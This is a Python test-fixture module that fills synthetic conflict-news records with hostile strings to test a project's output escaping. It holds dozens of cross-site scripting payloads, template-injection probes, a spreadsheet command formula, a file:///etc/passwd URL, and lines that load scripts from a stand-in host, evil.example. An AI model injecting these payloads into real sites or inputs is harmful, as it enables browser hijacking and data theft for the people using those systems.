"""Hostile words: what somebody who wants a reader's browser to do his will puts into a headline, a name, a place, an address.

Payloads are made from ways out of where the text stands and things that would run there; each has a number, so that one that ran is known.
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from itertools import product

from truceline.records import Actor, AgreementMention, Count, Event, Participant, Place, PlaceMention, Record, Report, Span, Statement

WAYS_OUT = ("", '">', "'>", "</script>", "</textarea>", "</title>", "-->", "]]>", "</style>", "</svg>", '" x="', "' x='")
RUNS = (
    "<script>alert({n})</script>", "<ScRiPt/x>alert({n})</sCrIpT>", "<img src=x onerror=alert({n})>", "<img src=`x`onerror=alert({n})>",
    "<svg onload=alert({n})>", "<svg><script>alert({n})</script></svg>", "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
    "<body onload=alert({n})>", "<details open ontoggle=alert({n})>", "<input autofocus onfocus=alert({n})>",
    "<iframe srcdoc='<script>parent.alert({n})</script>'></iframe>", "<object data='data:text/html,<script>alert({n})</script>'></object>",
    "<a href=javascript:alert({n})>x</a>", "<form action=javascript:alert({n})><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/{n}'>", "<base href=//evil.example/{n}/>",
    "<link rel=stylesheet href=//evil.example/{n}.css>", "<style>@import'//evil.example/{n}';*{{color:red}}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert({n})>", "<video><source onerror=alert({n})>",
    "<script src=//evil.example/{n}.js></script>", "<img src=//evil.example/{n}.png>",
)  # fmt: skip
OTHERS = (
    '" onmouseover="alert({n})', "' onfocus='alert({n})' autofocus='", '" style="background:url(//evil.example/{n})',
    "javascript:alert({n})", "{{{{ 7 * {n} }}}}", "{{% for x in ().__class__.__base__.__subclasses__() %}}{n}", "${{alert({n})}}",
    "<%= alert({n}) %>", "&lt;script&gt;alert({n})&lt;/script&gt;", "&#60;script&#62;alert({n})&#60;/script&#62;",
    "\\u003cscript\\u003ealert({n})\\u003c/script\\u003e", "<\u200bscript>alert({n})</script>",
    "\uff1cscript\uff1ealert({n})\uff1c/script\uff1e", "<!--><script>alert({n})</script>", "<![CDATA[<script>alert({n})</script>]]>",
    "<?xml-stylesheet href='//evil.example/{n}.xsl'?>", "\u202e<script>alert({n})</script>",
    "<script xmlns='http://www.w3.org/1999/xhtml'>alert({n})</script>", "'-alert({n})-'", "\";alert({n});//",
    "</script><script>alert({n})//", "=cmd|'/c calc'!A{n}", "<noscript><p title=\"</noscript><img src=x onerror=alert({n})>\">",
    "<template><script>alert({n})</script></template>", "<x contenteditable onblur=alert({n})>",
    "<select><option>{n}</select><script>alert({n})</script>", "[x](javascript:alert({n}))",
)  # fmt: skip
URLS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(2)", "java\tscript:alert(3)", "\x01javascript:alert(4)",
    "data:text/html,<script>alert(5)</script>", "vbscript:alert(6)", 'https://wire.example/"onmouseover="alert(7)',
    "https://wire.example/<script>alert(8)</script>", "//evil.example/9", "https://[", "file:///etc/passwd",
    "https://wire.example/'><script>alert(12)</script>", " javascript:alert(13)", "blob:x", "https:alert(15)",
    "http://wire.example/\u202egpj.exe", "view-source:x", "\\\\evil.example\\x",
)  # fmt: skip
IDS = ("h<script>alert(901)</script>", 'h"onload="alert(902)', "h'../..%2f?x=1&y#z", "h {{7*7}} \u202e")


def payloads() -> tuple[str, ...]:
    """All of them, each with its own number."""
    made = [way + run for way, run in product(WAYS_OUT, RUNS)] + list(OTHERS)
    return tuple(words.format(n=n) for n, words in enumerate(made, start=1000))


PAYLOADS = payloads()
A_REPORT = 12  # payloads of one report


def hostile_records() -> Iterator[Record]:
    """Reports that hold all payloads: as headline, house, words, speaker, claimant, doer, place, agreement; some in id and address."""
    for n, first in enumerate(range(0, len(PAYLOADS), A_REPORT)):
        key = IDS[n] if n < len(IDS) else f"h{n:03d}"
        yield hostile_record(key, n, PAYLOADS[first : first + A_REPORT], URLS[n % len(URLS)])


def hostile_record(key: str, n: int, words: Sequence[str], url: str) -> Record:
    """A report whose every part is hostile. Each sentence: somebody said that somebody shelled a place."""
    text, statements, events, agreements = "", [], [], []
    day = f"2019-04-{n % 28 + 1:02d}"
    target = Participant(Actor("VEL_AF", "x", "armed_force"))
    for k, payload in enumerate(words):
        other, third = words[(k + 1) % len(words)], words[(k + 2) % len(words)]
        start = len(text)
        sentence = f"{payload} said {other} shelled {third} and 2 were killed under {payload}."
        text += f"{sentence}\n\n"
        whole = Span(start, len(text) - 2, sentence)

        def span(piece: str, after: str = "", whole: Span = whole) -> Span:
            at = whole.text.index(piece, whole.text.index(after) + len(after))
            return Span(whole.start + at, whole.start + at + len(piece), piece)

        speaker = Participant(Actor(f"text:{payload}", payload, "group"), span(payload))
        doer = Participant(Actor(f"text:{other}", other, "armed_group"), span(other, " said "))
        place = PlaceMention(span(third, " shelled "), -1, Place(f"p{n}-{k}", third, "settlement", 40.2 + n / 50, 45.2 + k / 20))
        content = (span(other, " said "),)
        statements.append(Statement(f"s{k + 1}", speaker, span(" said ", payload), content, "indirect", whole, said_at=day))
        events.append(Event(
            f"e{k + 1}", "ASSAULT", "shelling", span("shelled"), whole, -1, (doer,), (target,), place, (place,), (day, day),
            (Count("killed", 2, doer.actor),), "denied" if k % 5 == 4 else "happened", (speaker,), f"s{k + 1}", method=payload,
        ))  # fmt: skip
        agreements.append(AgreementMention(f"a{k + 1}", span(payload, "under "), payload, None, None, (1,)))
    report = Report(key, text.strip(), words[0], words[1], url, day, None, "en", f"{n:064d}")
    return Record(report, "training", "hostile", tuple(statements), tuple(events), agreements=tuple(agreements))
